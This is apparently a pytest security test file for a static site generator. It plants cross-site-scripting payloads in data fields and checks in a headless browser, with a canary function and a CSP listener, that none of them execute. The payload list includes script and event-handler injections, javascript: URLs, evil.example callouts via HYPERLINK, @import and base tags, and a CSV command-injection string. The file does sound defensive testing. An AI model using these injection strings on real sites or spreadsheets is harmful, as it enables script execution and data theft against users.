"""Untrusted text is inert: a payload corpus in every data-driven field, loaded in Chromium with a canary.

Account handles, chart titles and source titles carry payloads (our own for each output context, plus
the Big List of Naughty Strings, vendored beside this file). Every page is loaded with
a canary installed before any script and a listener for Content-Security-Policy violations. A positive
control (one deliberately unescaped page) must be caught, so the harness cannot pass by doing nothing.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path
from typing import Any

from sitegen.build import build

from ..browser.gates import html_pages, static_server
from ..conftest import TINY

BLNS = Path(__file__).resolve().parent / "blns.json"  # Big List of Naughty Strings, MIT (blns.LICENSE)
CANARY = "__sitegenCanary"

OWN_PAYLOADS = [
    f'<script>{CANARY}("script")</script>',
    f'"><script>{CANARY}("attr-break")</script>',
    f"'><img src=x onerror={CANARY}('img')>",
    f'<svg onload={CANARY}("svg")>',
    f'<svg><script>{CANARY}("svg-script")</script></svg>',
    f"javascript:{CANARY}('href')",
    f'</title><script>{CANARY}("title")</script>',
    f'</textarea><script>{CANARY}("textarea")</script>',
    f'</script><script>{CANARY}("script-end")</script>',
    f'<!--<script>{CANARY}("comment")</script>-->',
    f'<iframe srcdoc="<script>parent.{CANARY}(1)</script>">',
    f'<a href="javascript:{CANARY}(1)">x</a>',
    f"{{{{ {CANARY}() }}}}",
    f"{{% raw %}}<script>{CANARY}('jinja')</script>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{CANARY}(9)">',
    f'<details open ontoggle="{CANARY}(10)">',
    f"\u202e<script>{CANARY}('bidi')</script>",
    f'=HYPERLINK("http://evil.example/?"&A1,"{CANARY}")',
    f"@SUM(1+1)*cmd|' /C calc'!A0 {CANARY}",
    f"<style>@import 'http://evil.example/{CANARY}.css';</style>",
    f'<base href="http://evil.example/{CANARY}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CANARY}(1)">',
    f"<form action=javascript:{CANARY}(1)><button>x</button></form>",
    f"[click](javascript:{CANARY}(1)) **bold** <b>b</b>",
    f"\u2028<script>{CANARY}('ls')</script>\u2029",
]


def payloads() -> list[str]:
    corpus = list(OWN_PAYLOADS)
    for i in range(40):  # the same contexts with numbered markers, so each is a distinct string
        corpus.append(f'<img src=x{i} onerror="{CANARY}({i})">')
        corpus.append(f"<script>{CANARY}({i})</script>{i}")
    corpus += json.loads(BLNS.read_text(encoding="utf-8"))
    usable = []
    for text in corpus:
        if text.strip() and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text) and text not in usable:
            usable.append(text)
    return usable


def poisoned_project(root: Path, corpus: list[str]) -> Path:
    """The tiny project, plus one diplomat account per payload (handle = payload) retweeted once."""
    project = root / "poisoned"
    shutil.copytree(TINY, project)
    data = project / "data"
    with (data / "accounts.csv").open("a", newline="", encoding="utf-8") as f:
        writer = csv.writer(f, lineterminator="\n")
        for i, text in enumerate(corpus):
            writer.writerow(
                [
                    f"77{i:017d}",
                    text,
                    text,
                    "diplomat",
                    "",
                    "2019-01-01 00:00:00",
                    "5",
                    "",
                    "active",
                    "",
                    text,
                    "",
                    text,
                ]
            )
    with (data / "posts.csv").open("a", newline="", encoding="utf-8") as f:
        writer = csv.writer(f, lineterminator="\n")
        for i, text in enumerate(corpus):
            writer.writerow([f"88{i:017d}", f"77{i:017d}", "2020-06-20 10:00:00", text])
    with (data / "engagements.csv").open("a", newline="", encoding="utf-8") as f:
        writer = csv.writer(f, lineterminator="\n")
        for i in range(len(corpus)):
            row = [f"99{i:017d}", "retweet", "2000000000000000005", f"88{i:017d}", f"77{i:017d}", "2020-06-20 11:00:00"]
            writer.writerow(row)
    with (project / "content" / "stats.yaml").open("a", encoding="utf-8") as f:
        f.write(
            "- id: everyone\n  kind: per_target\n  label: Everyone\n"
            "  params: {roles: [diplomat], as_of: 2021-05-05, min_engagements: 1}\n"
        )
    (project / "content" / "accounts.md").write_text(
        "---\ntitle: Accounts\ntemplate: collection.html\ncollection: {stat: everyone, key: account_id}\n---\n"
    )
    charts = project / "content" / "charts.yaml"
    charts.write_text(charts.read_text().replace("Weekly retweets <by class>", json.dumps(OWN_PAYLOADS[2])))
    sources = project / "content" / "sources.yaml"
    sources.write_text(
        sources.read_text().replace(
            "A <i>report</i> about the ambassador", "'" + OWN_PAYLOADS[1].replace("'", "''") + "'"
        )
    )
    return project


INIT = f"""
window.__hits = [];
window.{CANARY} = function (what) {{ window.__hits.push('canary ' + what); }};
window.alert = window.confirm = window.prompt = function (what) {{ window.__hits.push('dialog ' + what); }};
document.addEventListener('securitypolicyviolation', function (e) {{
  window.__hits.push('csp ' + e.violatedDirective + ' ' + e.blockedURI);
}});
"""


def executions(page: Any, url: str) -> list[str]:
    page.goto(url, wait_until="load")
    page.wait_for_timeout(50)
    return list(page.evaluate("window.__hits"))


def test_no_payload_executes_anywhere(tmp_path: Path, browser: Any) -> None:
    corpus = payloads()
    assert len(corpus) >= 300
    project = poisoned_project(tmp_path, corpus)
    build(project)
    site = project / "site"
    pages = html_pages(site)
    assert len(pages) >= len(corpus)  # one page per poisoned account, at least
    # The positive control: one deliberately unescaped page must be caught.
    (site / "control.html").write_text(
        (site / "index.html").read_text().replace("</main>", OWN_PAYLOADS[2] + "</main>")
    )
    context = browser.new_context(java_script_enabled=True)
    context.add_init_script(INIT)
    context.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.abort())
    page = context.new_page()
    with static_server(site) as url:
        assert executions(page, url + "control.html"), "the harness must catch the unescaped control page"
        found = {path: hits for path in pages if (hits := executions(page, url + path))}
    context.close()
    assert found == {}


def test_every_page_has_a_strict_csp(tmp_path: Path) -> None:
    project = poisoned_project(tmp_path, OWN_PAYLOADS)
    build(project)
    for path in html_pages(project / "site"):
        html = (project / "site" / path).read_text()
        policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
        assert policy, path
        sources = re.split(r"[\s;]+", policy.group(1))
        assert "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources, path
        # Only the search page may compile WebAssembly (Pagefind), which runs no script text.
        assert ("'wasm-unsafe-eval'" in sources) == (path == "search/index.html"), path
        assert "script-src 'self'" in policy.group(1)


def test_csv_downloads_neutralise_formulas_and_keep_long_ids(tmp_path: Path) -> None:
    import pandas as pd

    from sitegen.csvsafe import csv_text

    text = csv_text(pd.DataFrame({"id": ["9007199254740993"], "name": ['=HYPERLINK("x")'], "n": ["-5"]}))
    assert "9007199254740993" in text
    assert "'=HYPERLINK" in text
    assert ",-5" in text
